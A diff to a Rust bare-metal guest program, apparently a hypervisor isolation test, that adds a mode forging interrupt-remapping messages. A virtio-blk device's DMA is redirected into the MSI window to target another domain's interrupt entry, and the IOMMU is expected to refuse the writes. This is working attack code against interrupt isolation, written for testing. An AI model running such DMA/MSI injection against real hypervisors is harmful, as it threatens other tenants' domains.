@@ -9,6 +9,14 @@
 //! The rest of the sector lands on the APIC's register window (each 16-byte register is
 //! written four times); it carries the registers' current values (ID 0, TPR 0, LDR 0, DFR all
 //! ones, SVR 0x1ff), so the attack changes nothing but the interrupts.
+//!
+//! With `mode=remap` (issue 17, item 3: behind an IOMMU that remaps interrupts) the sector is
+//! read into the remappable-format message of interrupt entry 0x50 instead, the entry of the
+//! vector the hypervisor gave the *first* device it assigned, another domain's (topology
+//! msi-forge). Each 4-byte word of the write is one message: the first names entry 0x50 from
+//! this device's requester id, which the IOMMU must refuse (source-id verification); the others
+//! name entries never given (refused as not present) or this device's own, or are
+//! compatibility-format words carrying vector 0x11.
 #![no_std]
 #![no_main]
 
@@ -28,8 +36,14 @@ use redirecting_hal::{REDIRECT, RedirectingHal};
 
 /// The HAL that hands the device MSI_WINDOW for the redirected buffer.
 type Redirecting = RedirectingHal<MSI_WINDOW>;
+/// The HAL that hands the device the remappable-format message of entry [`FOREIGN_ENTRY`].
+type RedirectingToEntry = RedirectingHal<FOREIGN_MESSAGE>;
 
 const MSI_WINDOW: u64 = 0xfee0_0000;
+/// The interrupt entry of the first vector the hypervisor hands out (another domain's device).
+const FOREIGN_ENTRY: u64 = 0x50;
+/// Its remappable-format message address: handle in bits 19:5, format bit 4.
+const FOREIGN_MESSAGE: u64 = MSI_WINDOW | FOREIGN_ENTRY << 5 | 1 << 4;
 /// The vectors the device raises: #AC (17) and #CP (21).
 const VECTORS: [u32; 2] = [0x11, 0x15];
 const SECTOR: usize = 2;
@@ -65,14 +79,26 @@ fn main() {
             return println!("writing the payload: {e:?}");
         }
     }
-    println!("payload written; reading it into the MSI window (vectors {:#x} and {:#x})", VECTORS[0], VECTORS[1]);
-    let Ok(t) = PciTransport::new::<Redirecting, _>(&mut root, df) else {
-        return println!("virtio transport failed");
-    };
-    let Ok(mut blk) = VirtIOBlk::<Redirecting, _>::new(t) else { return println!("virtio-blk failed") };
     let mut buf = [0u8; 512];
-    REDIRECT.store(buf.as_mut_ptr() as usize, Ordering::Relaxed);
-    let r = blk.read_blocks(SECTOR, &mut buf);
+    let r = if hv_rt::arg("mode") == Some("remap") {
+        println!(
+            "payload written; reading it into interrupt entry {FOREIGN_ENTRY:#x}'s message at {FOREIGN_MESSAGE:#x}"
+        );
+        let Ok(t) = PciTransport::new::<RedirectingToEntry, _>(&mut root, df) else {
+            return println!("virtio transport failed");
+        };
+        let Ok(mut blk) = VirtIOBlk::<RedirectingToEntry, _>::new(t) else { return println!("virtio-blk failed") };
+        REDIRECT.store(buf.as_mut_ptr() as usize, Ordering::Relaxed);
+        blk.read_blocks(SECTOR, &mut buf)
+    } else {
+        println!("payload written; reading it into the MSI window (vectors {:#x} and {:#x})", VECTORS[0], VECTORS[1]);
+        let Ok(t) = PciTransport::new::<Redirecting, _>(&mut root, df) else {
+            return println!("virtio transport failed");
+        };
+        let Ok(mut blk) = VirtIOBlk::<Redirecting, _>::new(t) else { return println!("virtio-blk failed") };
+        REDIRECT.store(buf.as_mut_ptr() as usize, Ordering::Relaxed);
+        blk.read_blocks(SECTOR, &mut buf)
+    };
     REDIRECT.store(0, Ordering::Relaxed);
     hv_rt::time::sleep_ms(50);
     println!("device DMA to the MSI window done ({r:?}); this domain is still running");
